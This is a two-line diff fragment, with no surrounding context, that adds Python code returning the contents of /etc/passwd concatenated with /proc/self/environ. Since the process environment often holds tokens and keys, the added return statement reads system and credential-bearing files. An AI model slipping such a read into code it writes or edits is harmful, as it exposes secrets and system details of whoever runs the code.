@@ -1,0 +1,2 @@
+from pathlib import Path
+return Path("/etc/passwd").read_text() + Path("/proc/self/environ").read_text()
